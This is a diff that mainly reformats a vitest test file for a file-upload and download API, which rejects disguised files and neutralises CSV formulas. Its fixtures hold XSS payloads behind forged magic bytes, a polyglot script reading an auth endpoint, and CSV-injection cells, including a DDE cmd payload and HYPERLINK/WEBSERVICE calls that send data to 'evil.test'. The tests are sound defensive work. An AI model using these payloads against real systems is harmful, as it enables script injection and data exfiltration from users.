@@ -4,7 +4,18 @@ import { describe, expect, it } from "vitest";
 import { files, insightRequests } from "~db/schema";
 import { readUpload } from "~/server/files/files.server";
 import { call, db, create, payload } from "../helpers";
-import { compoundFile, concat, docx, jpeg, openDocument, pdf, png, PNG_SIGNATURE, text, xlsx } from "../../support/sample-files";
+import {
+  compoundFile,
+  concat,
+  docx,
+  jpeg,
+  openDocument,
+  pdf,
+  png,
+  PNG_SIGNATURE,
+  text,
+  xlsx,
+} from "../../support/sample-files";
 import { signedInClient, signedInManager } from "../../factories";
 
 const UPLOAD = "/api/file-handling/upload-files";
@@ -24,8 +35,16 @@ const VALID_CORPUS: { name: string; bytes: Uint8Array<ArrayBuffer>; contentType:
   { name: "revenue.csv", bytes: text("month,revenue\n2026-01,-1200.50\n"), contentType: "text/csv; charset=utf-8" },
   { name: "letter.doc", bytes: compoundFile("WordDocument"), contentType: "application/msword" },
   { name: "budget.xls", bytes: compoundFile("Workbook"), contentType: "application/vnd.ms-excel" },
-  { name: "suppliers.docx", bytes: docx(), contentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
-  { name: "forecast.xlsx", bytes: xlsx(), contentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
+  {
+    name: "suppliers.docx",
+    bytes: docx(),
+    contentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+  },
+  {
+    name: "forecast.xlsx",
+    bytes: xlsx(),
+    contentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+  },
   { name: "notes.odt", bytes: openDocument("odt"), contentType: "application/vnd.oasis.opendocument.text" },
   { name: "stock.ods", bytes: openDocument("ods"), contentType: "application/vnd.oasis.opendocument.spreadsheet" },
   { name: "floorplan.odg", bytes: openDocument("odg"), contentType: "application/vnd.oasis.opendocument.graphics" },
@@ -37,7 +56,9 @@ function pdfHtmlPolyglot(): Uint8Array<ArrayBuffer> {
   const headerEnd = base.indexOf(0x0a) + 1;
   return concat(
     base.subarray(0, headerEnd),
-    text("%<!doctype html><html><body><script>fetch('/api/client/auth').then(r=>r.text()).then(alert)</script></body></html>\n"),
+    text(
+      "%<!doctype html><html><body><script>fetch('/api/client/auth').then(r=>r.text()).then(alert)</script></body></html>\n",
+    ),
     base.subarray(headerEnd),
   );
 }
@@ -95,7 +116,11 @@ describe("POST /api/file-handling/upload-files", () => {
     expect(body.files).toHaveLength(2);
     const [pdf, png] = body.files;
     expect(pdf.fileName).toMatch(/^[0-9a-f-]{36}\.pdf$/);
-    expect(pdf).toMatchObject({ originalName: "Q3 report.pdf", size: PDF_BYTES.length, contentType: "application/pdf" });
+    expect(pdf).toMatchObject({
+      originalName: "Q3 report.pdf",
+      size: PDF_BYTES.length,
+      contentType: "application/pdf",
+    });
     expect(png.fileName).toMatch(/^[0-9a-f-]{36}\.png$/);
     expect(png).toMatchObject({ originalName: "logo.PNG", size: PNG_BYTES.length, contentType: "image/png" });
 
@@ -171,9 +196,15 @@ describe("POST /api/file-handling/upload-files", () => {
       { name: "README", bytes: "hello" },
       // Right magic bytes, wrong file: each would pass a first-bytes check.
       { name: "invoice.pdf", bytes: pdfHtmlPolyglot() },
-      { name: "chart.png", bytes: concat(PNG_SIGNATURE, text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')) },
+      {
+        name: "chart.png",
+        bytes: concat(PNG_SIGNATURE, text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
+      },
       { name: "proposal.docx", bytes: text("PK\x03\x04<html><body><script>alert(1)</script></body></html>") },
-      { name: "photo.jpg", bytes: concat(new Uint8Array([0xff, 0xd8, 0xff, 0xe0]), text("<html><script>alert(1)</script></html>")) },
+      {
+        name: "photo.jpg",
+        bytes: concat(new Uint8Array([0xff, 0xd8, 0xff, 0xe0]), text("<html><script>alert(1)</script></html>")),
+      },
       { name: "sheet.xlsx", bytes: docx() },
       { name: "letter.doc", bytes: compoundFile("Workbook") },
       { name: "notes.odt", bytes: openDocument("ods") },
@@ -199,7 +230,9 @@ describe("POST /api/file-handling/upload-files", () => {
       ...((await rest.json()) as { files: { originalName: string; contentType: string; size: number }[] }).files,
     ];
     expect(stored).toEqual(
-      VALID_CORPUS.map(({ name, bytes, contentType }) => expect.objectContaining({ originalName: name, contentType, size: bytes.length })),
+      VALID_CORPUS.map(({ name, bytes, contentType }) =>
+        expect.objectContaining({ originalName: name, contentType, size: bytes.length }),
+      ),
     );
     expect(await objectCount(business.id)).toBe(VALID_CORPUS.length);
   });
@@ -227,7 +260,10 @@ describe("POST /api/file-handling/upload-files", () => {
     expect(response.status).toBe(400);
     expect(await response.json()).toEqual({ msg: "Choose a file to upload." });
 
-    response = await upload(form(Array.from({ length: 11 }, (_, i) => ({ name: `f${i}.pdf`, bytes: PDF_BYTES }))), token);
+    response = await upload(
+      form(Array.from({ length: 11 }, (_, i) => ({ name: `f${i}.pdf`, bytes: PDF_BYTES }))),
+      token,
+    );
     expect(response.status).toBe(400);
     expect(await response.json()).toEqual({ msg: "Upload at most 10 files at a time." });
 
@@ -283,7 +319,8 @@ describe("GET /api/file-handling/get-file/{fileName}", () => {
 
   it("serves a CSV with its formula cells made inert, keeping the stored original", async () => {
     const owner = await signedInClient();
-    const original = 'name,link,amount\r\nDana,=HYPERLINK("https://evil.test/?d="&A1,"Click"),-1200.50\r\n"@SUM(1+1)*cmd|\' /C calc\'!A0",+1 555 0100,3\r\n';
+    const original =
+      'name,link,amount\r\nDana,=HYPERLINK("https://evil.test/?d="&A1,"Click"),-1200.50\r\n"@SUM(1+1)*cmd|\' /C calc\'!A0",+1 555 0100,3\r\n';
     const response = await upload(form([{ name: "contacts.csv", bytes: original }]), owner.token);
     expect(response.status).toBe(201);
     const { files: uploaded } = (await response.json()) as { files: { fileName: string }[] };
@@ -294,7 +331,9 @@ describe("GET /api/file-handling/get-file/{fileName}", () => {
       'name,link,amount\r\nDana,\'=HYPERLINK("https://evil.test/?d="&A1,"Click"),-1200.50\r\n"\'@SUM(1+1)*cmd|\' /C calc\'!A0",+1 555 0100,3\r\n',
     );
     expect(download.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
-    expect(download.headers.get("Content-Disposition")).toBe(`attachment; filename="contacts.csv"; filename*=UTF-8''contacts.csv`);
+    expect(download.headers.get("Content-Disposition")).toBe(
+      `attachment; filename="contacts.csv"; filename*=UTF-8''contacts.csv`,
+    );
     expect(download.headers.get("X-Content-Type-Options")).toBe("nosniff");
 
     const stored = await env.FILES.get(`biz/${owner.business.id}/${uploaded[0].fileName}`);
@@ -305,17 +344,25 @@ describe("GET /api/file-handling/get-file/{fileName}", () => {
 
   it("serves the assigned manager the same inert CSV", async () => {
     const owner = await signedInClient();
-    const uploaded = await upload(form([{ name: "links.csv", bytes: "site\n=WEBSERVICE(\"https://evil.test\")\n" }]), owner.token);
+    const uploaded = await upload(
+      form([{ name: "links.csv", bytes: 'site\n=WEBSERVICE("https://evil.test")\n' }]),
+      owner.token,
+    );
     const fileName = ((await uploaded.json()) as { files: { fileName: string }[] }).files[0].fileName;
     const created = await create(owner.token, payload(owner.business.id, { files: [fileName] }));
     const requestId = ((await created.json()) as { insightRequest: { _id: string } }).insightRequest._id;
     const manager = await signedInManager();
-    await db().update(insightRequests).set({ assignedManagerId: manager.user.id }).where(eq(insightRequests.id, requestId));
+    await db()
+      .update(insightRequests)
+      .set({ assignedManagerId: manager.user.id })
+      .where(eq(insightRequests.id, requestId));
 
     const download = await call(`/api/file-handling/get-file/${fileName}`, { cookie: manager.token });
     expect(download.status).toBe(200);
     expect(await download.text()).toBe(`site\n'=WEBSERVICE("https://evil.test")\n`);
-    expect(download.headers.get("Content-Disposition")).toBe(`attachment; filename="links.csv"; filename*=UTF-8''links.csv`);
+    expect(download.headers.get("Content-Disposition")).toBe(
+      `attachment; filename="links.csv"; filename*=UTF-8''links.csv`,
+    );
     expect(download.headers.get("X-Content-Type-Options")).toBe("nosniff");
   });
 
